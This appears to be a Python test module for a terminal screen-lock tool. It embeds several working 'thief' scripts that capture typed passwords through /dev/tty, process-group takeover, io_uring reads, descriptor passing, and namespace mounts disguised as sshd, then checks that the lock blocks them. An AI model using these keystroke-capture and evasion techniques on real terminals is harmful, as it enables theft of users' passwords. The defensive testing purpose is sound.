"""Programs that read what is typed on a terminal, as processes of its own user could."""

from __future__ import annotations

from .lab import Host, SshClient
from .limits import wait_event
from .locks import SECRET, Lock, fail

# Reads what it can of its user's terminal, in one of several ways, and keeps it in a file. `ready` is written first.
# Its parent, which reads nothing, stays in the foreground, so that the shell reads nothing either.
THIEF = """\
import os, signal, sys, time
way, path, target = sys.argv[1], sys.argv[2], sys.argv[3]
signal.signal(signal.SIGHUP, signal.SIG_IGN)
def keep(data):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)
    os.write(fd, data)
    os.close(fd)
def read(fd):
    try:
        return os.read(fd, 4096)
    except OSError:
        return b""
if os.fork():
    while True:
        signal.pause()
if way == "devtty":
    fd = os.open("/dev/tty", os.O_RDONLY)
elif way == "comet":
    fd = os.open("/dev/tty", os.O_RDONLY | os.O_NONBLOCK)
elif way == "group":
    os.setpgid(0, 0)
    signal.signal(signal.SIGTTOU, signal.SIG_IGN)
    os.tcsetpgrp(0, os.getpgrp())
    fd = 0
else:
    fd = os.open(target, os.O_RDONLY | os.O_NOCTTY)
if way != "group":
    os.setsid()
open(path + ".ready", "w").close()
end = time.monotonic() + 600
while time.monotonic() < end:
    if way == "comet" and os.fork():
        os._exit(0)
    data = read(fd)
    if data:
        keep(data)
    else:
        time.sleep(0.001)
"""

# Requests a read of a terminal by io_uring(7) before it is locked, into a file that others can see.
RING = """\
import ctypes, errno, mmap, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open(sys.argv[1], os.O_RDONLY | os.O_NOCTTY)
loot = os.open(sys.argv[2], os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
os.ftruncate(loot, 4096)
buffer = mmap.mmap(loot, 4096)
params = (ctypes.c_uint32 * 30)()
ring = libc.syscall(425, 8, params)
if ring < 0:
    sys.exit("no io_uring: " + errno.errorcode[ctypes.get_errno()])
sq = mmap.mmap(ring, 4096, offset=0)
sqes = mmap.mmap(ring, 4096, offset=0x10000000)
entry = bytearray(64)
entry[0] = 22
entry[4:8] = fd.to_bytes(4, "little")
entry[8:16] = (2**64 - 1).to_bytes(8, "little")
entry[16:24] = ctypes.addressof(ctypes.c_char.from_buffer(buffer)).to_bytes(8, "little")
entry[24:28] = (4096).to_bytes(4, "little")
sqes[0:64] = bytes(entry)
tail, array = params[11], params[16]
sq[array:array + 4] = bytes(4)
sq[tail:tail + 4] = (1).to_bytes(4, "little")
print("submitted", libc.syscall(426, ring, 1, 0, 0, None, 0), flush=True)
while True:
    signal.pause()
"""


# Requests a read of a terminal as a file registered with a ring, keeps no descriptor of it, and hides the ring:
# `closed` has no descriptor of the ring either, which stays mapped; `timer` delays the read, and gets as many answers
# as it sends requests; so does `renamed`, with another name for it; `worker` has no ring mapped, but a kernel thread.
RINGS = """\
import ctypes, errno, mmap, os, signal, struct, sys, time
way, pts, path = sys.argv[1:]
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
def call(*arguments):
    result = libc.syscall(*arguments)
    if result < 0:
        sys.exit("no io_uring: " + errno.errorcode[ctypes.get_errno()])
    return result
if way == "renamed":
    uid, gid = os.getuid(), os.getgid()
    libc.unshare(0x10000000 | 0x20000)
    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    other = os.path.expanduser("~/a\\rUserFiles:0")
    open(other, "w").close()
    assert libc.mount(pts.encode(), other.encode(), None, 4096, None) == 0
    pts = other
loot = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
os.ftruncate(loot, 4096)
buffer = mmap.mmap(loot, 4096)
address = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
params = (ctypes.c_uint32 * 30)()
ring = call(425, 8, params)
sq, sqes = (libc.mmap(None, 4096, 3, 0x8001, ring, offset) for offset in (0, 0x10000000))
terminal = os.open(pts, os.O_RDONLY | os.O_NOCTTY)
files = (ctypes.c_int32 * 1)(terminal)
call(427, ring, 2, files, 1)
null = os.open("/dev/null", os.O_RDWR)
for fd in (0, terminal):
    os.dup2(null, fd)
tail = 0
def ask(code, fd, offset, at, length, flags):
    global tail
    entry = bytearray(64)
    entry[:2] = bytes((code, flags))
    struct.pack_into("<iQQI", entry, 4, fd, offset, at, length)
    ctypes.memmove(sqes + 64 * tail, bytes(entry), 64)
    ctypes.memmove(sq + params[16] + 4 * tail, struct.pack("<I", tail), 4)
    tail += 1
ANY = 2**64 - 1
if way in ("timer", "renamed"):
    soon = (ctypes.c_int64 * 2)(20, 0)
    ask(11, -1, 0, ctypes.addressof(soon), 1, 8)
    ask(22, 0, ANY, address, 100, 1)
    for _ in range(2):
        ask(40, ring, 77, 0, 1, 0)
else:
    ask(22, 0, ANY, address, 100, 1 | (16 if way == "worker" else 0))
ctypes.memmove(sq + params[11], struct.pack("<I", tail), 4)
call(426, ring, tail, 0, 0, None, 0)
if way in ("closed", "worker"):
    call(427, ring, 20, (ctypes.c_uint64 * 2)(0xffffffff, ring), 1)
    os.close(ring)
if way == "worker":
    time.sleep(1)
    for at in (sq, sqes):
        libc.munmap(ctypes.c_void_p(at), ctypes.c_size_t(4096))
print("reads", way, flush=True)
for fd in (1, 2):
    os.dup2(null, fd)
while True:
    signal.pause()
"""

# Hands a descriptor of /dev/tty to a process that listens at a path, which takes it out of the socket when told to.
PASSED = """\
import array, os, signal, socket, sys
path = sys.argv[1]
end = socket.socket(socket.AF_UNIX)
if sys.argv[2:] == ["take"]:
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
    end.bind(path)
    os.chmod(path, 0o777)
    end.listen()
    other = end.accept()[0]
    signal.sigwait([signal.SIGUSR1])
    kept = other.recvmsg(1, socket.CMSG_SPACE(4))
    signal.pause()
end.connect(path)
terminal = os.open("/dev/tty", os.O_RDONLY)
end.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [terminal]))])
print("passed", flush=True)
"""

# 1,600,000 descriptors of a file, in as many processes as needed.
CROWD = """\
import os, resource, signal
most = min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 1 << 19)
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
fd = os.open("/etc/passwd", os.O_RDONLY)
for _ in range(most - 16):
    os.dup(fd)
for _ in range(1600000 // most):
    if not os.fork():
        break
else:
    print("crowded", flush=True)
for each in (1, 2):
    os.dup2(fd, each)
signal.pause()
"""

# Makes a process that keeps the terminal open a child of its own parent, and runs a program of root's named sshd, by a
# mount in a user namespace. Then becomes the shell again.
CLONED = """\
import ctypes, os, platform, signal, time
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
clone = {"x86_64": 56, "aarch64": 220}[platform.machine()]
pid = libc.syscall(clone, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0)
if not pid:
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    os.setsid()
    assert libc.unshare(0x10000000 | 0x20000) == 0
    for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
        with open(f"/proc/self/{name}", "w") as file:
            file.write(text)
    os.chdir(os.path.expanduser("~"))
    open("sshd", "w").close()
    os.chmod("sshd", 0o755)
    assert libc.mount(os.path.realpath("/usr/bin/python3").encode(), b"sshd", None, 4096, None) == 0
    os.execve("./sshd", ["sshd", "-c", "import time; time.sleep(1000)"], {"PYTHONHOME": "/usr"})
while open(f"/proc/{pid}/comm").read() != "sshd\\n":
    time.sleep(0.05)
print("clo" + "ned", pid, flush=True)
os.execv("/bin/bash", ["-bash"])
"""


def let_in(host: Host, terminal: SshClient, way: str, loot: str, pts: str) -> None:
    """Starts a thief on a terminal, which reads from `pts`."""
    terminal.send(f"python3 /usr/local/lib/thief.py {way} {loot} {pts}\n")
    host.shell(f"timeout 30 sh -c 'until test -e {loot}.ready; do sleep 0.1; done'")


def bait(host: Host, terminal: SshClient, loot: str, text: str) -> None:
    """Types what a thief is meant to read, and waits until it has."""
    terminal.send(f"{text}\n")
    host.shell(f"timeout 30 sh -c 'until grep -q {text} {loot}; do sleep 0.1; done'")


def gets_nothing(host: Host, terminal: SshClient, found: Lock, loot: str) -> None:
    """Types wrong passwords and the right one on a locked terminal; asserts that a thief reads only what follows."""
    found.wait_frozen()
    host.shell(f": > {loot}")
    fail(host, terminal, found.person)
    fail(host, terminal, found.person)
    assert host.read(loot) == ""
    terminal.send(f"{SECRET}\n")
    wait_event(host, found.person, "unlocked")
    found.wait("given back", f"! test -e {found.group}")
    bait(host, terminal, loot, "after")
    assert host.read(loot) == "after\n"


# Has its user's terminal open by a path of 5,000 bytes, longer than readlink(2) returns.
LONG = """\
import ctypes, os, signal, sys
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
signal.signal(signal.SIGHUP, signal.SIG_IGN)
os.chdir(os.path.expanduser("~"))
if libc.unshare(0x10000000 | 0x20000):
    sys.exit("no namespace: " + os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"{uid} {uid} 1"), ("gid_map", f"{gid} {gid} 1")):
    with open(f"/proc/self/{name}", "w") as file:
        file.write(text)
for _ in range(20):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
open("f", "w").close()
if libc.mount(sys.argv[1].encode(), b"f", None, 4096, None):
    sys.exit("no mount: " + os.strerror(ctypes.get_errno()))
fd = os.open("f", os.O_RDONLY | os.O_NOCTTY)
print("has it", os.getpid(), flush=True)
null = os.open("/dev/null", os.O_RDWR)
for each in (0, 1, 2):
    os.dup2(null, each)
signal.pause()
"""
